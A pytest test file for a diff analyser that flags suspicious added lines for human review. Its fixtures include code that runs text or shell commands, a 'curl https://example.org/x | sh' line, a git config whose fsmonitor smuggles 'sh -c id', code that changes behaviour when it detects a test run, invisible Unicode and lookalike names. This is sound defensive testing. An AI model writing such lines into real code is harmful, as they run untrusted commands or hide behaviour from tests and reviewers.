"""What hides in a change is found in the lines that it adds, and what only looks like it is let be."""

# ruff: noqa: RUF001 - what looks alike is what is tested

from __future__ import annotations

import pytest
from trees_kit import changed, found

from controller.domain.change import FileStatus
from controller.facts.analyse import analysis_of
from controller.facts.tree import ChangedTree


def rules(path: str, after: str, before: str | None = None) -> list[str]:
    return [one.rule for one in found(changed(path, before, after)).suspicious]


RUNS = [
    ("exec(given)", "code"),
    ("eval('1 + 1')", "code"),
    ("run = exec", "code"),
    ("list(map(eval, given))", "code"),
    ("from builtins import exec as go\ngo(given)", "code"),
    ("import builtins\ngetattr(builtins, 'ex' + 'ec')(given)", "code"),
    ("import builtins\ngetattr(builtins, 'exec')(given)", "code"),
    ("__builtins__['exec'](given)", "code"),
    ("ｅｘｅｃ(given)", "code"),
    ("compile(given, '', 'exec')", "code"),
    ("import marshal\nmarshal.loads(given)", "code"),
    ("from marshal import loads as read\nread(given)", "code"),
    ("__import__('os')", "code"),
    ("import types\ntypes.FunctionType(code, {})", "code"),
    ("import importlib\nimportlib.import_module(given)", "module"),
    ("from importlib import import_module\nimport_module(f'{given}.run')", "module"),
    ("import importlib.util\nimportlib.util.spec_from_file_location('a', given)", "module"),
    ("import sys\nsys.modules['pricing'] = other", "module"),
    ("import sys\nsys.meta_path.insert(0, finder)", "module"),
    ("import pickle\npickle.loads(given)", "objects"),
    ("import yaml\nyaml.load(given, Loader=yaml.Loader)", "objects"),
    ("import sys\nsys.modules['builtins'].exec(given)", "code"),
    ("total.__globals__['e' + 'xec'](given)", "code"),
    ("globals()['__builtins__']", "code"),
    ("from os import *\nsystem('ls')", "code"),
    ("import os\nos.system('ls')", "shell"),
    ("import os\ngetattr(os, given)('ls')", "code"),
    ("import subprocess as sp\nsp.run(given, shell=True)", "shell"),
    ("from subprocess import run\nrun(given, shell=switch)", "shell"),
]


@pytest.mark.parametrize(("text", "kind"), RUNS)
def test_python_that_runs_text_asks_for_a_person(text: str, kind: str) -> None:
    assert f"runs-text/{kind}" in rules("app.py", f"{text}\n")


@pytest.mark.parametrize(
    "text",
    [
        "import re\nre.compile('a')",
        "from re import compile\ncompile('a')",
        "import ast\nast.literal_eval(given)",
        "model.eval()",
        "frame.eval('a + b')",
        "def eval(node):\n    return node.value\n\n\neval(1)",
        "import importlib\nimportlib.import_module('json')",
        "import importlib\nimportlib.import_module(f'shop.plugins.{name}')",
        "import subprocess\nsubprocess.run(['ls', '-l'], check=True)",
        "import subprocess\nsubprocess.run(words, shell=False)",
        "import base64\nbase64.b64decode(given)",
        "import yaml\nyaml.safe_load(given)",
        "import pickle\npickle.dumps(given)",
        "getattr(order, name)()",
        "import sys\nknown = sys.modules.get('json')",
        "# exec(given)\nNOTE = 'exec(given)'",
    ],
)
def test_python_that_only_looks_like_it_is_let_be(text: str) -> None:
    assert rules("app.py", f"{text}\n") == []


def test_text_that_was_run_before_is_not_held_against_a_change_beside_it() -> None:
    old = "exec(given)\n\n\ndef one():\n    return 1\n"
    assert rules("app.py", old.replace("return 1", "return 2"), old) == []
    assert rules("app.py", old + "exec(other)\n", old) == ["runs-text/code"]


def test_tests_may_start_a_shell_and_unpickle_and_may_not_run_text() -> None:
    assert (
        rules("tests/test_a.py", "import os, pickle\n\n\ndef test_a():\n    assert pickle.loads(os.popen('x'))\n") == []
    )
    assert rules("tests/test_a.py", "def test_a():\n    exec('assert True')\n") == ["runs-text/code"]


ASKS = [
    "import sys\nTESTED = 'pytest' in sys.modules",
    "import sys\nTESTED = 'py' + 'test' in sys.modules",
    "import sys\nTESTED = sys.modules.get('unittest')",
    "import sys\nTESTED = 'hypothesis' in sys.modules",
    "from importlib.util import find_spec\nTESTED = find_spec('coverage')",
    "import os\nTESTED = 'PYTEST_CURRENT_TEST' in os.environ",
    "import os\nTESTED = os.environ.get('PYTEST_VERSION')",
    "import os\nTESTED = any(key.startswith('PYTEST') for key in os.environ)",
    "import sys\nTESTED = sys.argv[0].endswith('/pytest')",
    "import os\nTESTED = os.getenv('CI')",
    "from os import environ\nTESTED = environ['GITHUB_ACTIONS']",
    "import os\nTESTED = os.environ.get('SHOP_TESTING')",
    "import sys\nTESTED = sys.gettrace() is not None",
    "from sys import gettrace as traced\nTESTED = traced()",
    "try:\n    import pytest\nexcept ImportError:\n    pytest = None",
    "from tests.helpers import TESTED",
    "from .conftest import TESTED",
]


@pytest.mark.parametrize("text", ASKS)
def test_a_program_that_asks_whether_it_is_tested_waits_for_a_person(text: str) -> None:
    said = rules("shop/app.py", f"{text}\n")
    assert said
    assert all(one.startswith("asks-if-tested/") for one in said), said


@pytest.mark.parametrize(
    "text",
    [
        "import os\nREGION = os.environ.get('SHOP_REGION', 'eu')",
        "import os\nCITY = os.environ['CITY']",
        "WORDS = 'run pytest before you commit'",
        "import sys\nHAS_NUMPY = 'numpy' in sys.modules",
        "def test(order):\n    return order.tested",
        "from numpy.testing import assert_allclose",
        "WORDS = ('coverage', 'hypothesis', 'nose')",
        "CI = 3\nprices.get('CI')",
    ],
)
def test_a_program_that_reads_its_settings_is_let_be(text: str) -> None:
    assert rules("shop/app.py", f"{text}\n") == []


def test_tests_know_that_they_are_tests() -> None:
    text = "import sys\n\nimport pytest\n\n\ndef test_a():\n    assert 'pytest' in sys.modules\n"
    assert rules("tests/test_a.py", text) == []


@pytest.mark.parametrize(
    ("path", "line", "rule"),
    [
        ("a.js", "const f = new Function('return 1');", "runs-text/pattern"),
        ("a.ts", "const m = await import(name);", "runs-text/pattern"),
        ("a.js", "if (process.env.JEST_WORKER_ID) { price = 490; }", "asks-if-tested/pattern"),
        ("a.js", "if (process.env.NODE_ENV === 'test') { }", "asks-if-tested/pattern"),
        ("a.go", 'exec.Command("sh", "-c", given).Run()', "runs-text/pattern"),
        ("a.go", "if testing.Testing() { return 490 }", "asks-if-tested/pattern"),
        ("a.rs", "#[cfg(not(test))]", "asks-if-tested/pattern"),
        ("A.java", "new ObjectInputStream(given).readObject();", "runs-text/pattern"),
        ("a.rb", "Marshal.load(given)", "runs-text/pattern"),
        ("a.php", "eval(base64_decode($given));", "runs-text/pattern"),
        ("a.sh", "curl https://example.org/x | sh", "runs-text/pattern"),
        ("a.sh", 'python3 -c "$(cat x)"', "runs-text/pattern"),
        ("a.js", "const is_аdmin = true;", "lookalike/mixed"),
        ("a.js", "const сору = true;", "lookalike/name"),
    ],
)
def test_other_languages_are_read_by_their_lines(path: str, line: str, rule: str) -> None:
    assert rule in rules(path, f"{line}\n")


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("a.js", "const found = /a(b)/.exec(text); const { b } = require('./b');"),
        ("a.js", "const page = () => import('./page');"),
        ("a.go", 'exec.Command("git", "status")'),
        ("a.rs", "#[cfg(test)]"),
        ("a.js", "const привет = 'сор'; // сор, рост"),
        ("A.java", 'Class.forName("shop.Driver");'),
        ("a.sh", "python3 -c 'import weight; print(weight.parcels(1))'"),
    ],
)
def test_other_languages_keep_their_ordinary_lines(path: str, line: str) -> None:
    assert rules(path, f"{line}\n") == []


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("allowed = role  # \u202e } \u2066if admin\u2069", "invisible/direction"),
        ("price\u200b = 1", "invisible/zero-width"),
        ("price\u200d = 1", "invisible/zero-width"),
        ("\u4f60\u200d\u3000\u597d", "invisible/zero-width"),
        ("# read this\U000e0041\U000e0042", "invisible/tag"),
        ("# a\x1b[2Kb", "invisible/control"),
        ("# left\u200fright", "invisible/direction"),
    ],
)
def test_characters_that_nobody_sees_are_told(text: str, rule: str) -> None:
    assert rule in rules("notes.txt", f"{text}\n")
    assert rule in rules("docs/notes.md", f"{text}\n")


@pytest.mark.parametrize(
    "text",
    [
        "Grüß Gott, Straße, naïve, Ελλάδα, 你好, こんにちは",
        "\ufeffbegins with a mark of its encoding",
        "👩\u200d🚀 flies, 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f wins, ❤️ loves",
        "می\u200cخواهم",
        "مرحبا (C++)\u200f شكرا",
        "क्\u200dष",
        "a\tb\f",
        "Δt = 1, µm, 5 Ω, π·r²",
        "сор, рост, а, о",
    ],
)
def test_writing_of_the_world_is_let_be(text: str) -> None:
    assert rules("notes.txt", f"{text}\n") == []


@pytest.mark.parametrize("line", ["is_\u0430dmin = True", "\u0441\u043e\u0440\u0443 = 1", "r\u043ele == 'a'"])
def test_a_name_that_reads_like_another_is_told(line: str) -> None:
    assert any(one.startswith("lookalike/") for one in rules("access.py", f"{line}\n"))


@pytest.mark.parametrize("line", ["größe = 1", "цена = 1", "Δt = 1", "α, β = 1, 2", "名前 = 'a'", "NOTE = 'сор'"])
def test_a_name_in_another_script_is_let_be(line: str) -> None:
    assert rules("access.py", f"{line}\n") == []


def test_a_repository_inside_the_tree_is_told() -> None:
    assert rules("fixtures/bare/HEAD", "ref: refs/heads/main\n") == ["repository-inside/head"]
    assert rules("fixtures/bare/config", '[core]\n\tfsmonitor = "sh -c id"\n') == ["repository-inside/config"]
    assert rules("fixtures/HEAD", "The head of things.\n") == []
    assert rules("config", "region = eu\n") == []


def test_new_files_that_gitignore_names_are_told() -> None:
    analysis = analysis_of(ChangedTree(files=(changed("server.log", None, "started\n"),), ignored=("server.log",)))
    assert [(one.rule, one.path) for one in analysis.suspicious] == [("ignored/file", "server.log")]
    assert changed("server.log", None, "x\n").status is FileStatus.ADDED


def test_python_that_cannot_be_read_is_named() -> None:
    analysis = found(changed("app.py", None, "def (\n"))
    assert [one.path for one in analysis.unread][:1] == ["app.py"]
